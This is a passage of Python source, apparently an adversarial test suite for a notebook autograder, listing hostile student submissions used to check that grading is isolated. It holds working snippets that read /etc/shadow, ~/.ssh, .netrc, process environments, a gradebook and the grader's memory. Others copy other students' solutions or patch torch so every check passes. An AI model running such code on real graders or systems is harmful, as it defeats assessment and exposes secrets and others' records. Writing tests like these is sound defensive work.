    Hostile("unlike-metadata", "The nbgrader metadata of check cells are lists, numbers, texts or nothing.",
            NOTHING, _each_check(unlike_metadata)),
    Hostile("swapped-ids", "A question of one point that is right changes ids with one of three that is wrong.",
            {**NOTHING, "update-rule": FULL["update-rule"]}, swapped_ids),
    Hostile("same-id-everywhere", "Every cell claims the id of the one question that is right.",
            {q: Outcome(0) for q in points() if q != "update-rule"}, same_id_everywhere),
    Hostile("bonus-cells", "Twenty extra cells claim to be graded with a hundred points each.", NOTHING, bonus_cells),
    Hostile("graded-solutions", "Solution cells claim to be graded with a thousand points.", NOTHING,
            graded_solutions),
    Hostile("merged-checks", "Two check cells are merged into one, and a number put behind.", NOTHING, merged),
    Hostile("essay-as-code", "The question for a person becomes a code cell that returns its marks.",
            {**NOTHING, "reflection": Outcome(None, "manual")}, essay_as_code),
    Hostile("other-kernel", "The notebook names a kernel of its own, with a command to run.", NOTHING, other_kernel),
    Hostile("payloads", "Pickles, scripts and paths in outputs, attachments and widget states.", NOTHING, payloads),
    Hostile("shadow-files", "Modules named numpy, json and sitecustomize, and a gradebook, beside the notebook.",
            NOTHING, place=shadow_files),
]  # fmt: skip

# --- looking for answers -----------------------------------------------------------------------------------------

IMPORT_SOLUTIONS = """\
from gdcourse.exercises import find_unit
from gdcourse.solutions import variants_of
for _id, _found in variants_of(find_unit("02-manual-gradient")).items():
    _name = next(e.name for e in find_unit("02-manual-gradient").exercises if e.id == _id)
    globals()[_name] = next(v.work for v in _found if v.role == "reference")
"""

LOOK = """\
import os, pathlib, sys
def places():
    import gdcourse
    found = [pathlib.Path(gdcourse.__file__).resolve().parents[1], pathlib.Path.cwd(), pathlib.Path.home(),
             pathlib.Path("/tmp"), pathlib.Path("/work"), pathlib.Path("/home"), pathlib.Path("/srv")]
    found += [pathlib.Path(p) for p in sys.path if p]
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        for link in (process / "cwd", process / "root"):
            try:
                found.append(pathlib.Path(os.readlink(link)))
            except OSError:
                pass
        try:
            found += [pathlib.Path(os.readlink(fd)).parent for fd in (process / "fd").iterdir()]
        except OSError:
            pass
    return [p for p in dict.fromkeys(found) if p.is_dir() and str(p) not in ("/", "/proc", "/dev")]
def look(*names):
    seen = 0
    for place in places():
        for root, directories, files in os.walk(place, onerror=lambda e: None):
            depth = len(pathlib.Path(root).parts) - len(place.parts)
            skip = ("node_modules", "torch", "__pycache__", ".git", "share", "sympy", "numpy", "matplotlib", "jedi")
            directories[:] = [d for d in directories if depth < 6 and d not in skip]
            for file in files:
                if file in names:
                    yield pathlib.Path(root, file)
            seen += 1
            if seen > 30000:
                return
"""

SOURCE_FROM_DISK = (
    LOOK
    + """\
for path in look("manual_gradient.py"):
    try:
        text = path.read_text()
    except OSError:
        continue
    if "@reference" in text:
        import types, gdcourse
        from gdcourse.exercises import find_unit
        kept = {}
        def reference(i):
            return lambda f: kept.setdefault(i, f)
        other = lambda *a, **k: (lambda f: f)
        fake = types.ModuleType("gdcourse.solutions")
        fake.reference, fake.mistake, fake.equivalent = reference, other, other
        fake.choice = lambda i, right, wrong: kept.setdefault(i, right)
        sys.modules["gdcourse.solutions"] = fake
        exec(text)
        for exercise in find_unit("02-manual-gradient").exercises:
            globals()[exercise.name] = kept[exercise.id]
        break
"""
)

OTHER_SUBMISSIONS = (
    LOOK
    + """\
import json
for path in look("02-manual-gradient.ipynb"):
    if "all-right" in path.parts or "autograded" in path.parts or "submitted" in path.parts:
        for each in json.loads(path.read_text())["cells"]:
            if str(each["metadata"].get("nbgrader", {}).get("grade_id", "")).endswith("-solution"):
                try:
                    exec("".join(each["source"]), globals())
                except Exception:
                    pass
        if "slope" in globals():
            break
"""
)

FRAMES = functions(
    "import gc, inspect, sys\n"
    "frame = sys._getframe()\n"
    "while frame:\n"
    "    for value in list(frame.f_locals.values()):\n"
    "        if isinstance(value, dict) and 'expected' in value and len(value.get('cases', ())) == 8:\n"
    "            return value['expected'][0]\n"
    "    frame = frame.f_back\n"
    "for value in gc.get_objects():\n"
    "    if type(value) is dict and 'expected' in value and len(value.get('cases', ())) == 8:\n"
    "        return value['expected'][0]\n"
    "shell = get_ipython()\n"
    "for text in [*In, *shell.user_ns.get('_ih', []), shell.kernel.get_parent().get('content', {}).get('code', '')]:\n"
    "    if 'expected' in text and 'publish' in text:\n"
    "        return float(text.split('expected')[1].split()[0])\n"
    "return 0.5"
)

LOOKING = [
    Hostile("imports-solutions", "Imports the reference answers from the package.", NOTHING,
            unanswered_with(IMPORT_SOLUTIONS), needs_isolation=True),
    Hostile("imports-by-path", "Finds the solutions on the disk by way of /proc and the package, and runs them.",
            NOTHING, unanswered_with(SOURCE_FROM_DISK), needs_isolation=True),
    Hostile("copies-a-neighbour", "Finds the submissions of others on the disk and runs their solution cells.",
            NOTHING, unanswered_with(OTHER_SUBMISSIONS), needs_isolation=True),
    Hostile("frames-and-history", "Searches frames, collected objects and the history for expected values.",
            NOTHING, unanswered_with(FRAMES)),
    Hostile("reads-the-secret", "Reads the course secret from the disk or from the environment of any process.",
            NOTHING, if_it_leaks(LOOK + """\
leaked = bool(os.environ.get("GDCOURSE_SECRET"))
for path in look(".course-secret"):
    leaked = leaked or len(path.read_text().strip()) > 8
for process in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        leaked = leaked or b"GDCOURSE_SECRET" in (process / "environ").read_bytes()
    except OSError:
        pass
"""), needs_isolation=True),
    Hostile("reads-the-gradebook", "Finds gradebook.db and reads marks of others from it.", NOTHING,
            if_it_leaks(LOOK + """\
import sqlite3
for path in look("gradebook.db"):
    try:
        book = sqlite3.connect(path)
        rows = list(book.execute("select count(*) from grade"))
        leaked = leaked or rows[0][0] > 0
    except sqlite3.Error:
        pass
"""), needs_isolation=True),
    Hostile("reads-the-parents-memory", "Reads the memory of the grader, in which the expected values are.", NOTHING,
            if_it_leaks("""\
import os
parent = os.getppid()
for line in open(f"/proc/{parent}/maps"):
    where, mode = line.split()[:2]
    if mode.startswith("rw") and "[heap]" in line:
        start, end = (int(part, 16) for part in where.split("-"))
        with open(f"/proc/{parent}/mem", "rb", 0) as memory:
            memory.seek(start)
            leaked = leaked or b"gdcourse" in memory.read(min(end - start, 2**26))
"""), needs_isolation=True),
    Hostile("reads-memory-by-call", "Reads the grader's memory by process_vm_readv.", NOTHING,
            if_it_leaks("""\
import ctypes, os
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
parent = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
for line in open(f"/proc/{parent}/maps"):
    if line.split()[1].startswith("rw"):
        buffer = ctypes.create_string_buffer(64)
        mine, theirs = Vec(ctypes.addressof(buffer), 64), Vec(int(line.split("-")[0], 16), 64)
        got = libc.process_vm_readv(parent, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        leaked = leaked or got > 0
"""), needs_isolation=True),
    Hostile("sees-other-processes", "Looks for the command lines of the grader and of other students' kernels.",
            NOTHING, if_it_leaks("""\
import os, pathlib
own = {os.getpid()}
for process in pathlib.Path("/proc").glob("[0-9]*"):
    if int(process.name) in own:
        continue
    try:
        line = (process / "cmdline").read_bytes()
    except OSError:
        continue
    leaked = leaked or b"pytest" in line or b"nbgrader" in line or b"gdcourse grade" in line
"""), needs_isolation=True),
    Hostile("joins-other-kernels", "Looks for the connection files and sockets of other kernels, to use them.",
            NOTHING, if_it_leaks("""\
import glob, json, os, socket, tempfile
from ipykernel.connect import get_connection_file
own = os.path.realpath(get_connection_file())
patterns = [os.path.join(os.path.dirname(own), "*.json"), "/tmp/**/kernel-*.json", os.path.expanduser("~/**/kernel-*.json")]
for path in {os.path.realpath(p) for pattern in patterns for p in glob.glob(pattern, recursive=True)} - {own}:
    leaked = leaked or "key" in json.load(open(path))
mine = os.path.dirname(json.load(open(own))["ip"])
for path in glob.glob("/tmp/gdk-*/*") + glob.glob("/tmp/**/s-[0-9]", recursive=True):
    if os.path.dirname(path) != mine:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
            leaked = True
"""), needs_isolation=True),
    Hostile("reads-the-disk", "Reads what a user may read and a student must not: keys, tokens, home directories.",
            NOTHING, if_it_leaks("""\
import os, pathlib
home = pathlib.Path(os.path.expanduser("~" + __import__("pwd").getpwuid(os.getuid()).pw_name))
for name in (".ssh", ".netrc", ".bash_history", ".config", ".gitconfig", ".local/share/jupyter/runtime", ".bashrc"):
    path = home / name
    try:
        leaked = leaked or bool(path.read_bytes() if path.is_file() else list(path.iterdir()))
    except OSError:
        pass
try:
    leaked = leaked or bool(open("/etc/shadow").read())
except OSError:
    pass
"""), needs_isolation=True),
]  # fmt: skip

# --- other units -------------------------------------------------------------------------------------------------

AUTOGRAD = "04-autograd"
MODULE = "05-nn-module"

OTHER_UNITS = [
    Hostile("patched-autograd", "Replaces backward, grad and no_grad of torch, which the probes of the unit look at.",
            all_of(0, None, AUTOGRAD),
            cheat("import torch\ntorch.Tensor.backward = lambda self, *a, **k: None\n"
                  "torch.autograd.grad = lambda *a, **k: (torch.zeros(1),)\n"
                  "torch.Tensor.grad = property(lambda self: torch.zeros_like(self))\n"
                  "torch.Tensor.is_leaf = torch.Tensor.requires_grad = property(lambda self: True)\n"
                  "torch.Tensor.__eq__ = torch.equal = torch.allclose = lambda *a, **k: True", unit=AUTOGRAD),
            unit=AUTOGRAD),
    Hostile("module-that-is-everything", "Hands in a Module that has every attribute and answers every call with itself.",
            all_of(0, None, MODULE),
            lambda release: with_cells(_everything(release), "import torch"), unit=MODULE),
]  # fmt: skip


def _everything(release: NotebookNode) -> NotebookNode:
    from gdcourse.exercises import find_unit
    from gdcourse.grading.demo.simulated_class import submission

    text = (
        "class Everything(torch.nn.Module):\n"
        "    def __init__(self, *a, **k):\n        super().__init__()\n"
        "    def forward(self, *a, **k):\n        return self\n"
        "    def __getattr__(self, name):\n        return self\n"
        "    def __eq__(self, other):\n        return True\n"
        "    __hash__ = torch.nn.Module.__hash__\n"
        "    def __float__(self):\n        return 1.0\n"
        "    def __iter__(self):\n        return iter([self])\n"
        "    def parameters(self, *a):\n        return [self]\n"
    )
    found = find_unit(MODULE)
    return submission(release, found, {e.id: f"{text}{e.name} = Everything" for e in found.exercises}, "…")


def brute_forced_choice(release: NotebookNode) -> NotebookNode:
    """Opens the seal of the question of choice by trying all options. The one thing that cannot be prevented."""
    notebook = wrong(release)
    solution(notebook, "why-faster").source = (
        FORGE + "from gdcourse.judging.comparing import seal\n"
        "why_faster = next(o for o in 'abcd' if seal(o, 'why-faster') == KEY['why-faster']['expected'][0])"
    )
    return notebook


GUESSES = [
    Hostile("opened-seal", "Tries all options of a question of choice against the seal: a guess, which scores its 1.",
            {**NOTHING, "why-faster": FULL["why-faster"]}, brute_forced_choice),
    Hostile("right-and-greedy", "Right answers, and forged verdicts, envelopes and metadata that ask for more.", FULL,
            lambda release: with_cells(
                _each_check(raised_points, answered)(release), FORGED_VERDICT.format(points=points()), FLOOD)),
]  # fmt: skip

ENTRIES = [
    *COMPARISONS,
    *IPYTHON,
    *PACKAGE,
    *ENVELOPES,
    *ANSWERS,
    *CELLS,
    *LOOKING,
    *GUESSES,
    *OTHER_UNITS,
]
